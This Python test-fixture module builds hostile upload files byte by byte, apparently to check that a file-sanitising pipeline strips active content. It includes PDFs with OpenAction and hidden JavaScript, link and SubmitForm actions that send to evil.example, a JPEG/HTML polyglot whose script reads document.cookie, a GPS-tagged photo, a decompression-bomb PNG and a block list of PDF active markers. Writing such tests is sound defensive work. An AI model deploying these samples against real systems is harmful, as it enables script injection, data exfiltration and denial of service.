"""Files an attacker would upload, built byte by byte (no library that might tidy them up).

Each hostile PDF is a real one-page PDF (PDFium opens it and draws the visible text) that also
carries one active feature; `pdf_all_text` inflates every stream of a PDF so that a test can
check that the feature is gone from what we stored, compressed streams included.
"""

from __future__ import annotations

import io
import re
import struct
import zlib

from PIL import Image

# Markers a stored file must never contain once we rebuilt it.
PDF_ACTIVE_MARKERS = (
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/URI",
    b"/SubmitForm",
    b"/Launch",
    b"/EmbeddedFile",
    b"/AcroForm",
    b"/Annots",
    b"app.alert",
    b"evil.example",
)
PAGE_TEXT = b"BT /F1 24 Tf 72 700 Td (Surat rujukan) Tj ET"


def _page_objects(page_extra: bytes = b"") -> dict[int, bytes]:
    """Catalog 1, pages 2, page 3, content 4, font 5 (the catalog gets its extras later)."""
    return {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        4: b"<< /Length %d >>\nstream\n" % len(PAGE_TEXT) + PAGE_TEXT + b"\nendstream",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def classic_pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF 1.4 with an ordinary cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def object_stream_pdf(objects: dict[int, bytes], packed: list[int]) -> bytes:
    """A PDF 1.5 whose `packed` objects sit, compressed, inside an object stream (found via an xref stream)."""
    body, positions = b"", []
    for number in packed:
        positions.append(len(body))
        body += objects[number] + b"\n"
    header = b" ".join(b"%d %d" % (number, pos) for number, pos in zip(packed, positions, strict=True)) + b"\n"
    stream_number, xref_number = max(objects) + 1, max(objects) + 2
    data = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {n: o for n, o in objects.items() if n not in packed}
    plain[stream_number] = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(packed), len(header), len(data))
        + data
        + b"\nendstream"
    )
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(struct.pack(">BIH", 2, stream_number, packed.index(number)))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        b"stream\n" % (xref_number, xref_number + 1, len(table)) + table + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def _js_action(script: bytes = b"app.alert('x')") -> bytes:
    return b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>"


def hostile_pdfs() -> dict[str, bytes]:
    """One PDF per active feature that got through before (issue 10 §3)."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R "
    open_action = {**_page_objects(), 1: catalog + b"/OpenAction 6 0 R >>", 6: _js_action()}
    # The JavaScript lives only inside the compressed object stream: no plain-text marker in the file.
    in_object_stream = {**_page_objects(), 1: catalog + b"/OpenAction 6 0 R >>", 6: _js_action()}
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 730] /A << /S /URI /URI (https://evil.example/steal) >> >>"
    )
    uri = {**_page_objects(b"/Annots [6 0 R] "), 1: catalog + b">>", 6: link}
    submit = (
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [72 600 200 640] "
        b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >> >>"
    )
    submit_form = {**_page_objects(b"/Annots [6 0 R] "), 1: catalog + b"/AcroForm << /Fields [6 0 R] >> >>", 6: submit}
    additional = {**_page_objects(b"/AA << /O 6 0 R >> "), 1: catalog + b"/AA << /WC 6 0 R >> >>", 6: _js_action()}
    return {
        "open_action_js": classic_pdf(open_action),
        "js_in_object_stream": object_stream_pdf(in_object_stream, packed=[1, 6]),
        "uri_link": classic_pdf(uri),
        "submit_form": classic_pdf(submit_form),
        "additional_actions": classic_pdf(additional),
    }


def plain_pdf() -> bytes:
    return classic_pdf({**_page_objects(), 1: b"<< /Type /Catalog /Pages 2 0 R >>"})


def pdf_all_text(data: bytes) -> bytes:
    """The file with every Flate stream inflated in place (what a reader would see)."""
    parts = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            parts.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(parts)


def polyglot_jpeg() -> bytes:
    """A real JPEG that a browser sniffing the bytes would also run as HTML (comment and trailer)."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (30, 120, 200)).save(out, "JPEG")
    jpeg = out.getvalue()
    html = b"<html><script>alert(document.cookie)</script></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    return jpeg[:2] + comment + jpeg[2:] + html


def gps_jpeg() -> bytes:
    """A phone photo carrying its position in EXIF (GPS IFD) and a camera serial."""
    exif = Image.Exif()
    exif[0x010F] = "SecretCameraMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "S", 2: (7.0, 25.0, 30.5), 3: "E", 4: (109.0, 14.0, 1.0), 0x1B: "SECRETGPSAREA"})
    out = io.BytesIO()
    Image.new("RGB", (80, 60), (200, 30, 30)).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def huge_png(side: int = 7745, mode: str = "RGB") -> bytes:
    """A small file (about 175 KB as RGB) that decodes to side x side pixels: the attack of issue 10 §3."""
    out = io.BytesIO()
    Image.new(mode, (side, side), 0).save(out, "PNG", optimize=True)
    return out.getvalue()
